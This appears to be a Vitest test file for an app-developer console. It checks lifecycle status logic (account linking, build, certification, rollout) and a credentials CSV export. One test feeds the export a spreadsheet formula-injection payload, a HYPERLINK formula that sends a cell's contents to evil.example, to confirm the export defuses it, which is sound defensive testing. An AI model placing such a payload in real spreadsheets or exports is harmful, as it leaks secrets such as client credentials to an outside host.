import { describe, expect, it } from 'vitest';
import { lifecycleFacts, type LifecycleRows } from '../src/modules/lifecycle/lifecycle.service.ts';
import { credentialsCsv } from '../src/modules/credentials/credentials.service.ts';

const none: LifecycleRows = {
  publishedAt: null,
  buildCompletedAt: null,
  testCompletedAt: null,
  certifiedAt: null,
  generalInfo: null,
  mediaInfo: null,
  compatibilityInfo: null,
  additionalInfo: null,
  accountLinkings: [],
  endpointCheckRuns: [],
  _count: { endpointCheckRuns: 0 },
  certificationSubmissions: [],
  rollouts: [],
};
const urls = {
  authorizationUrl: 'https://a.example/a',
  appHomepageUrl: 'https://a.example',
  tokenExchangeUrl: 'https://a.example/t',
  webhookUrl: 'https://a.example/w',
};
const saved = new Date();

describe('lifecycleFacts', () => {
  it('absent rows are nothing saved', () => {
    expect(lifecycleFacts(none)).toEqual({
      appInformationComplete: false,
      accountLinkingComplete: false,
      configureStarted: false,
      build: { started: false, confirmed: false, invalidatedBecause: null },
      testComplete: false,
      testStarted: false,
      certified: false,
      certificationInProgress: false,
      liveToAll: false,
      rolloutUnderWay: false,
    });
  });

  it('media without additional images is incomplete, whatever else is there', () => {
    const facts = lifecycleFacts({ ...none, mediaInfo: { savedAt: saved, mainImageId: 'm', additionalImages: [] } });
    expect(facts.appInformationComplete).toBe(false);
    expect(facts.configureStarted).toBe(true);
  });

  it('account linking needs both environments, each with all four URLs', () => {
    const staging = { savedAt: saved, environment: 'STAGING' as 'STAGING' | 'PRODUCTION', ...urls };
    expect(lifecycleFacts({ ...none, accountLinkings: [staging] }).accountLinkingComplete).toBe(false);
    expect(lifecycleFacts({ ...none, accountLinkings: [staging, { ...staging, environment: 'PRODUCTION', webhookUrl: ' ' }] }).accountLinkingComplete).toBe(
      false,
    );
    expect(lifecycleFacts({ ...none, accountLinkings: [staging, { ...staging, environment: 'PRODUCTION' }] }).accountLinkingComplete).toBe(true);
  });

  it('a saved environment starts Configure; a row never saved does not', () => {
    expect(lifecycleFacts({ ...none, accountLinkings: [{ savedAt: null, environment: 'STAGING' }] }).configureStarted).toBe(false);
    expect(lifecycleFacts({ ...none, accountLinkings: [{ savedAt: saved, environment: 'PRODUCTION' }] }).configureStarted).toBe(true);
  });

  it('Certify is under way while the latest submission awaits review or a fix, not once withdrawn', () => {
    for (const [status, underWay] of [
      ['UNDER_REVIEW', true],
      ['CHANGES_REQUESTED', true],
      ['PRECHECK_FAILED', true],
      ['WITHDRAWN', false],
    ] as const) {
      expect(lifecycleFacts({ ...none, certificationSubmissions: [{ status }] }).certificationInProgress, status).toBe(underWay);
    }
  });

  it('later steps come from their timestamps', () => {
    const facts = lifecycleFacts({ ...none, buildCompletedAt: saved, testCompletedAt: saved, certifiedAt: saved, publishedAt: saved });
    expect([facts.build.confirmed, facts.testComplete, facts.certified]).toEqual([true, true, true]);
  });

  it('a confirmed Build holds while the latest staging run passed against the staging URLs saved now, and names the change otherwise', () => {
    const staging = { savedAt: new Date('2026-12-12T10:00:00Z'), environment: 'STAGING' as const, ...urls };
    const run = { createdAt: new Date('2026-12-11T10:00:00Z'), checks: [{ passed: true }], urls };
    const built = { ...none, buildCompletedAt: saved, accountLinkings: [staging], endpointCheckRuns: [run], _count: { endpointCheckRuns: 1 } };
    expect(lifecycleFacts(built).build).toEqual({ started: true, confirmed: true, invalidatedBecause: null });
    const moved = { ...built, accountLinkings: [{ ...staging, webhookUrl: 'https://a.example/w2' }] };
    expect(lifecycleFacts(moved).build.invalidatedBecause).toBe('Staging webhook URL changed on 12 Dec');
    // Production's URLs are not what Build checks.
    const productionMoved = { ...built, accountLinkings: [staging, { ...staging, environment: 'PRODUCTION' as const, webhookUrl: 'https://a.example/p' }] };
    expect(lifecycleFacts(productionMoved).build.invalidatedBecause).toBeNull();
  });

  it('Publish: live to all once a rollout completed; under way while one is pending, in progress or paused', () => {
    expect(lifecycleFacts({ ...none, rollouts: [{ status: 'COMPLETED' }] })).toMatchObject({ liveToAll: true, rolloutUnderWay: false });
    for (const status of ['DEPLOYMENT_PENDING', 'IN_PROGRESS', 'PAUSED'] as const) {
      expect(lifecycleFacts({ ...none, rollouts: [{ status }] }), status).toMatchObject({ liveToAll: false, rolloutUnderWay: true });
    }
    // publishedAt alone (the app once reached users) does not make Publish complete.
    expect(lifecycleFacts({ ...none, publishedAt: saved }).liveToAll).toBe(false);
  });
});

describe('credentialsCsv', () => {
  it('quotes every field (RFC 4180, quotes doubled) and ends records with CRLF', () => {
    const csv = credentialsCsv('A "quoted",\nname', { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' });
    expect(csv).toBe('"App name","Client ID","Client Secret","HMAC Signature Key"\r\n"A ""quoted"",\nname","ring_cid_1","ring_csec_2","ring_hmac_3"\r\n');
  });

  it('quotes an app name like x;=1+1, which a spreadsheet splitting on ";" would turn into a formula cell', () => {
    const csv = credentialsCsv('x;=1+1', { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' });
    expect(csv.split('\r\n')[1]).toBe('"x;=1+1","ring_cid_1","ring_csec_2","ring_hmac_3"');
  });

  it('defuses an app name a spreadsheet would run as a formula', () => {
    const plain = { clientId: 'ring_cid_1', clientSecret: 'ring_csec_2', hmacSignatureKey: 'ring_hmac_3' };
    for (const name of ['=HYPERLINK("https://evil.example/?"&A2,"x")', '+1+1', '-2+3', '@SUM(1)']) {
      const record = credentialsCsv(name, plain).split('\r\n')[1]!;
      expect(record.replace(/^"/, ''), name).toMatch(/^'/);
    }
    expect(credentialsCsv('Home Guardian', plain).split('\r\n')[1]).toBe('"Home Guardian","ring_cid_1","ring_csec_2","ring_hmac_3"');
  });
});
